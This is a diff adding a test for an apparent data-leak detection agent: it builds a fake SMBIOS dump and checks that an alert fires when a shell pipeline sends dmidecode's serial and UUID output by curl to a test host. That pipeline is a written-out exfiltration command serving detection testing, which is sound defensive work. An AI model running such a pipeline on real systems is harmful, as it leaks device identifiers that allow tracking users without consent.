@@ -3,7 +3,10 @@
 import os
 import random
 import select
+import shutil
+import struct
 import subprocess
+import tempfile
 import threading
 import tty
 
@@ -68,6 +71,58 @@ identifiers:
     expect_eq("confirmed", a["confidence"], "confidence")
     expect_eq("ioctl", a["identifiers"][0]["source"], "identifiers[].source")
     expect_eq("SIOCETHTOOL ETHTOOL_GPERMADDR", a["identifiers"][0]["path"], "where the value came from")
+
+
+def smbios_dump(path):
+    """An SMBIOS table as `dmidecode --dump-bin` writes it (the DMTF's DSP0134 layout): system
+    (serial, UUID), board and chassis structures. Returns the system serial and UUID text."""
+    def structure(kind, handle, formatted, strings):
+        body = struct.pack("<BBH", kind, 4 + len(formatted), handle) + formatted
+        return body + (b"".join(x.encode() + b"\0" for x in strings) or b"\0") + b"\0"
+    serial = "SN-%08X" % random.getrandbits(32)
+    uuid = bytes(random.getrandbits(8) for _ in range(16))
+    table = (structure(1, 0x100, bytes([1, 2, 3, 4]) + uuid + bytes([6, 0, 0]),
+                       ["Acme", "Box 9", "1.0", serial])
+             + structure(2, 0x200, bytes([1, 2, 3, 4]), ["Acme", "Board", "r2", "BRD-99812-ZX"])
+             + structure(3, 0x300, bytes([1, 3, 2, 3, 4]), ["Acme", "1.0", "CHS-4410-PL", "tag"])
+             + structure(127, 0x7f00, b"", []))
+    ep = bytearray(b"_SM3_" + bytes(19))
+    ep[6], ep[7], ep[8], ep[10] = 0x18, 3, 2, 1
+    struct.pack_into("<IQ", ep, 12, len(table), 32)
+    ep[5] = (-sum(ep)) & 0xff
+    with open(path, "wb") as f:
+        f.write(bytes(ep) + bytes(8) + table)
+    u = uuid
+    text = "%s-%s-%s-%s-%s" % (u[3::-1].hex(), u[5:3:-1].hex(), u[7:5:-1].hex(), u[8:10].hex(), u[10:].hex())
+    return serial, text
+
+
+def test_dmidecode_output_piped_to_curl(host):
+    """dmidecode reads the raw SMBIOS table (here a dump it is pointed at with --from-dump; this
+    machine has none in /sys/firmware/dmi/tables): the serial and UUID inside are values of the
+    identifiers named for them."""
+    tmp = tempfile.mkdtemp(prefix="idsentry-dmi-")
+    dump = os.path.join(tmp, "DMI")
+    serial, uuid = smbios_dump(dump)
+    policy = """version: 1
+identifiers:
+  - name: product-serial
+    files: [%s]
+  - name: product-uuid
+    files: [%s]
+""" % (dump, dump) + RULE
+    try:
+        with Agent(policy_text=policy) as agent:
+            r = subprocess.run(["sh", "-c", "dmidecode --from-dump %s -t system | curl -s -o /dev/null "
+                                "--max-time 5 --data-binary @- http://%s:8080/dmi" % (dump, host.addr)],
+                               capture_output=True, timeout=30)
+            expect_eq(0, r.returncode, "the pipeline's status")
+            a = agent.wait_alert(process__comm="curl")
+        expect_eq("confirmed", a["confidence"], "confidence")
+        expect_eq(["product-serial", "product-uuid"], sorted({i["name"] for i in a["identifiers"]}),
+                  "identifiers (each value its own)")
+    finally:
+        shutil.rmtree(tmp, ignore_errors=True)
 
 
 class FakeModem:
